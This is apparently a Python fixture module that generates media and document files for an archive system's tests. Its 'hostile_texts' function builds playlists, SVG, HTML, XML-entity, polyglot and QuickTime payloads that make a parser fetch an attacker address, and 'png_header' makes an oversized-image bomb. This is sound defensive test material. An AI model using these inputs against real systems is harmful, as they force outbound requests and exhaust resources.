"""Create small media files of every kind; none is stored in the repository."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from fractions import Fraction
from pathlib import Path

import av
import numpy as np
import pillow_heif
from av.audio.stream import AudioStream
from av.container import OutputContainer
from av.video.stream import VideoStream
from numpy.typing import NDArray
from PIL import Image, ImageDraw

RED, GREEN, BLUE = (200, 30, 30), (30, 160, 60), (30, 60, 200)


def tone(
    seconds: float,
    *,
    rate: int = 16_000,
    hertz: float = 440.0,
    level: float = 0.3,
    channels: int = 1,
) -> NDArray[np.float32]:
    """A sine, shaped (channels, samples)."""
    at = np.arange(round(seconds * rate)) / rate
    wave = (level * np.sin(2 * np.pi * hertz * at)).astype(np.float32)
    return np.tile(wave, (channels, 1))


def sound(
    path: Path,
    samples: NDArray[np.float32] | None = None,
    *,
    rate: int = 16_000,
    codec: str = "pcm_s16le",
    container: str = "wav",
    options: dict[str, str] | None = None,
    tags: dict[str, str] | None = None,
) -> Path:
    """Write samples shaped (channels, samples) with any encoder of the wheel."""
    samples = tone(1.0, rate=rate) if samples is None else samples
    layout = "mono" if len(samples) == 1 else "stereo"
    with av.open(str(path), "w", format=container, options=options or {}) as out:
        out.metadata.update(tags or {})
        stream = out.add_stream(codec, rate=rate, layout=layout)
        assert isinstance(stream, AudioStream)
        stream.bit_rate = 64_000
        _encode_sound(out, stream, samples, rate, layout)
    return path


def _encode_sound(
    out: OutputContainer,
    stream: AudioStream,
    samples: NDArray[np.float32],
    rate: int,
    layout: str,
    start_s: float = 0.0,
) -> None:
    fifo = av.AudioFifo()
    resampler = av.AudioResampler(stream.format.name, layout, rate)
    frame = av.AudioFrame.from_ndarray(np.ascontiguousarray(samples), format="fltp", layout=layout)
    frame.sample_rate = rate
    for part in [*resampler.resample(frame), *resampler.resample(None)]:
        fifo.write(part)
    size = stream.codec_context.frame_size or 1024
    at = round(start_s * rate)
    while (piece := fifo.read(size) or fifo.read(0, True)) is not None:
        piece.pts, piece.time_base = at, Fraction(1, rate)
        at += piece.samples
        out.mux(stream.encode(piece))
    out.mux(stream.encode(None))


def film(
    path: Path,
    *,
    seconds: float = 1.0,
    size: tuple[int, int] = (160, 120),
    fps: int = 10,
    codec: str = "libx264",
    container: str = "mp4",
    sound_codec: str = "aac",
    sound_starts_s: float = 0.0,
    tags: dict[str, str] | None = None,
    black_s: float = 0.0,
) -> Path:
    """A moving bar with a tone under it; `black_s` seconds of black come first."""
    with av.open(str(path), "w", format=container) as out:
        out.metadata.update(tags or {})
        stream = out.add_stream(codec, rate=fps)
        assert isinstance(stream, VideoStream)
        stream.width, stream.height = size
        stream.pix_fmt = "yuv420p"
        sound_stream = (
            out.add_stream(sound_codec, rate=44_100, layout="mono") if sound_codec else None
        )
        assert sound_stream is None or isinstance(sound_stream, AudioStream)
        if sound_stream is not None:
            sound_stream.bit_rate = 64_000
        for n in range(round(seconds * fps)):
            picture = Image.new("RGB", size, BLUE if n >= black_s * fps else (0, 0, 0))
            if n >= black_s * fps:
                ImageDraw.Draw(picture).rectangle((n * 4, 10, n * 4 + 20, 60), fill=RED)
            frame = av.VideoFrame.from_ndarray(np.asarray(picture), format="rgb24")
            frame.pts, frame.time_base = n, Fraction(1, fps)
            out.mux(stream.encode(frame))
        out.mux(stream.encode(None))
        if sound_stream is not None:
            _encode_sound(
                out, sound_stream, tone(seconds, rate=44_100), 44_100, "mono", sound_starts_s
            )
    return path


def amr(path: Path, seconds: float = 1.0) -> Path:
    """AMR narrow band: frames of 20 ms at 4.75 kbit/s; the wheel decodes but does not encode it."""
    rng = np.random.default_rng(3)
    frames = [b"\x04" + rng.bytes(12) for _ in range(round(seconds * 50))]
    path.write_bytes(b"#!AMR\n" + b"".join(frames))
    return path


def picture(size: tuple[int, int] = (60, 40), corner: tuple[int, int, int] = RED) -> Image.Image:
    """Blue, with one coloured corner at the top left, so that turning it can be seen."""
    image = Image.new("RGB", size, BLUE)
    ImageDraw.Draw(image).rectangle((0, 0, size[0] // 3, size[1] // 3), fill=corner)
    return image


def photo(
    path: Path,
    *,
    form: str = "JPEG",
    size: tuple[int, int] = (60, 40),
    orientation: int = 1,
    gps: bool = True,
) -> Path:
    """A photo as a phone writes it: with its place, its owner and which side is up."""
    image = picture(size)
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x013B] = "NGUOI-CHUP-ANH"
    exif[0x0132] = "2019:04:30 10:20:30"
    if gps:
        exif.get_ifd(0x8825).update({1: "N", 2: (10.0, 46.0, 36.0), 3: "E", 4: (106.0, 42.0, 0.0)})
    if form == "HEIF":
        pillow_heif.register_heif_opener()
    image.save(path, format=form, exif=exif.tobytes(), **({"quality": 90} if form != "PNG" else {}))
    return path


def docx(path: Path, *, macros: bool = False, extra: dict[str, bytes] | None = None) -> Path:
    """The smallest package that ECMA-376 calls a document."""
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    if macros:
        kind = "application/vnd.ms-word.document.macroEnabled"
    types = (
        f'<Types><Override PartName="/word/document.xml" ContentType="{kind}.main+xml"/></Types>'
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("word/document.xml", "<w:document/>")
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return path


def pdf(path: Path) -> Path:
    """A page with nothing on it."""
    path.write_bytes(b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
    return path


def bwf(path: Path) -> Path:
    """A Broadcast WAV (EBU Tech 3285) of one second, with its bext chunk."""
    sound(path)
    plain = path.read_bytes()
    bext = (
        struct.pack(
            "<256s32s32s10s8sQH64s10s180s",
            b"Nhan chung ke ve nam 1975",
            b"Van phong lich su",
            b"REF-0001",
            b"2019-04-30",
            b"10:20:30",
            48_000 * 3600,
            1,
            b"",
            b"",
            b"",
        )
        + b"A=PCM,F=16000,W=16,M=mono\r\n\x00"
    )
    body = plain[8:12] + b"bext" + struct.pack("<I", len(bext)) + bext + plain[12:]
    path.write_bytes(b"RIFF" + struct.pack("<I", len(body)) + body)
    return path


def every_kind(folder: Path) -> dict[str, Path]:
    """One file of each kind that an archive is sent, by the name of its kind."""
    return {
        "WAV": sound(folder / "a.wav"),
        "Broadcast WAV": bwf(folder / "b.wav"),
        "RF64": sound(folder / "c.rf64", options={"rf64": "always"}),
        "Wave64": sound(folder / "d.w64", container="w64"),
        "AIFF": sound(folder / "e.aiff", container="aiff", codec="pcm_s16be"),
        "CAF": sound(folder / "f.caf", container="caf"),
        "MP3": sound(folder / "g.mp3", container="mp3", codec="libmp3lame"),
        "AAC": sound(folder / "h.aac", container="adts", codec="aac"),
        "FLAC": sound(folder / "i.flac", container="flac", codec="flac"),
        "AMR": amr(folder / "j.amr"),
        "Ogg": sound(folder / "k.opus", container="ogg", codec="libopus", rate=48_000),
        "WMA": sound(folder / "l.wma", container="asf", codec="wmav2", rate=44_100),
        "WMV": film(folder / "m.wmv", container="asf", codec="wmv2", sound_codec="wmav2"),
        "M4A": sound(folder / "n.m4a", container="ipod", codec="aac"),
        "MP4": film(folder / "o.mp4"),
        "MOV": film(folder / "p.mov", container="mov"),
        "QuickTime sound": sound(folder / "q.mov", container="mov", codec="aac"),
        "3GP": film(folder / "r.3gp", container="3gp"),
        "3GP sound": sound(folder / "s.3gp", container="3gp", codec="aac"),
        "AVI": film(folder / "t.avi", container="avi", codec="mpeg4", sound_codec="libmp3lame"),
        "MPEG-TS": film(folder / "u.mts", container="mpegts"),
        "MPEG-PS": film(
            folder / "v.mpg", container="mpeg", codec="mpeg1video", fps=25, sound_codec="mp2"
        ),
        "Matroska": film(folder / "w.mkv", container="matroska"),
        "Matroska sound": sound(folder / "x.mka", container="matroska", codec="flac"),
        "WebM": film(folder / "y.webm", container="webm", codec="libvpx-vp9", sound_codec=""),
        "WebM sound": sound(folder / "z.weba", container="webm", codec="libopus", rate=48_000),
        "JPEG": photo(folder / "a.jpg"),
        "PNG": photo(folder / "b.png", form="PNG"),
        "TIFF": photo(folder / "c.tif", form="TIFF"),
        "HEIC": photo(folder / "d.heic", form="HEIF"),
        "PDF": pdf(folder / "e.pdf"),
        "DOCX": docx(folder / "f.docx"),
    }


def hostile_texts(address: str) -> dict[str, bytes]:
    """Return scripts that make an unprotected player connect to `address` ("host:port")."""
    url = f"http://{address}/stolen.ts"
    host, _, port = address.partition(":")
    return {
        "m3u8": f"#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n{url}\n#EXT-X-ENDLIST\n".encode(),
        "m3u8 with key": (
            f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{url}"\n#EXTINF:10,\n{url}\n'
        ).encode(),
        "m3u8 with mark": b"\xef\xbb\xbf" + f"#EXTM3U\n#EXTINF:1,\n{url}\n".encode(),
        "m3u": f"{url}\n".encode(),
        "pls": f"[playlist]\nFile1={url}\nNumberOfEntries=1\n".encode(),
        "asx": f'<asx version="3.0"><entry><ref href="{url}"/></entry></asx>'.encode(),
        "ffconcat": f"ffconcat version 1.0\nfile '{url}'\nduration 5\n".encode(),
        "concat without head": f"file '{url}'\n".encode(),
        "sdp": (
            f"v=0\r\no=- 0 0 IN IP4 {host}\r\ns=x\r\nc=IN IP4 {host}\r\nt=0 0\r\n"
            f"m=audio {port} RTP/AVP 0\r\na=rtpmap:0 PCMU/8000\r\n"
        ).encode(),
        "dash": (
            '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"'
            f' mediaPresentationDuration="PT10S"><Period><BaseURL>{url}</BaseURL>'
            '<AdaptationSet mimeType="audio/mp4"><Representation id="1" bandwidth="9"/>'
            "</AdaptationSet></Period></MPD>"
        ).encode(),
        "svg": (
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
            f'<image xlink:href="{url}" width="9" height="9"/></svg>'
        ).encode(),
        "html": f'<!doctype html><img src="{url}"><script src="{url}"></script>'.encode(),
        "xml": f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "{url}">]><x>&e;</x>'.encode(),
        "id3 before playlist": b"ID3\x03\x00\x00\x00\x00\x00\x00"
        + f"#EXTM3U\n#EXTINF:1,\n{url}\n".encode(),
        "wav head before playlist": b"RIFF\x00\x10\x00\x00WAVE" + f"\n#EXTM3U\n{url}\n".encode(),
        "mov with outside sound": _outside_reference(url),
    }


def _outside_reference(url: str) -> bytes:
    """Return a QuickTime file whose track references an address (url data reference)."""

    def box(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", 8 + len(body)) + name + body

    full = b"\x00\x00\x00\x00"
    entry = struct.pack(">I", 28) + b"sowt" + bytes(6) + b"\x00\x01" + bytes(8)
    entry = box(
        b"sowt", bytes(6) + b"\x00\x01" + bytes(8) + struct.pack(">HHHHI", 1, 16, 0, 0, 16000 << 16)
    )
    table = b"".join(
        (
            box(b"stsd", full + struct.pack(">I", 1) + entry),
            box(b"stts", full + struct.pack(">III", 1, 1000, 1)),
            box(b"stsc", full + struct.pack(">IIII", 1, 1, 1000, 1)),
            box(b"stsz", full + struct.pack(">II", 2, 1000)),
            box(b"stco", full + struct.pack(">II", 1, 0)),
        )
    )
    reference = box(b"url ", full + url.encode() + b"\x00")
    dinf = box(b"dinf", box(b"dref", full + struct.pack(">I", 1) + reference))
    minf = box(b"minf", box(b"smhd", full + bytes(4)) + dinf + box(b"stbl", table))
    mdhd = box(b"mdhd", full + struct.pack(">IIIIHH", 0, 0, 16000, 1000, 0, 0))
    hdlr = box(b"hdlr", full + b"mhlr" + b"soun" + bytes(13))
    tkhd = box(b"tkhd", full + struct.pack(">IIIII", 0, 0, 1, 0, 1000) + bytes(60))
    trak = box(b"trak", tkhd + box(b"mdia", mdhd + hdlr + minf))
    mvhd = box(b"mvhd", full + struct.pack(">IIII", 0, 0, 16000, 1000) + bytes(80))
    return box(b"ftyp", b"qt  \x00\x00\x00\x00qt  ") + box(b"moov", mvhd + trak)


def png_header(width: int, height: int) -> bytes:
    """Return a PNG with a huge size in its header and little data."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
        )

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n"
        + head
        + chunk(b"IDAT", zlib.compress(bytes(1000)))
        + chunk(b"IEND", b"")
    )


def as_bytes(image: Image.Image, form: str) -> bytes:
    """An image in a format of Pillow's."""
    buffer = io.BytesIO()
    image.save(buffer, format=form)
    return buffer.getvalue()


def turned(path: Path, *, clockwise: bool = True) -> Path:
    """Mark an MP4 as held sideways: the matrix of its track header (ISO/IEC 14496-12 §8.3.2)."""
    data = bytearray(path.read_bytes())
    one, at = 1 << 16, data.find(b"tkhd") + 4 + 40
    quarter = (0, one, 0, -one, 0, 0) if clockwise else (0, -one, 0, one, 0, 0)
    struct.pack_into(">6i", data, at, *quarter)
    path.write_bytes(data)
    return path
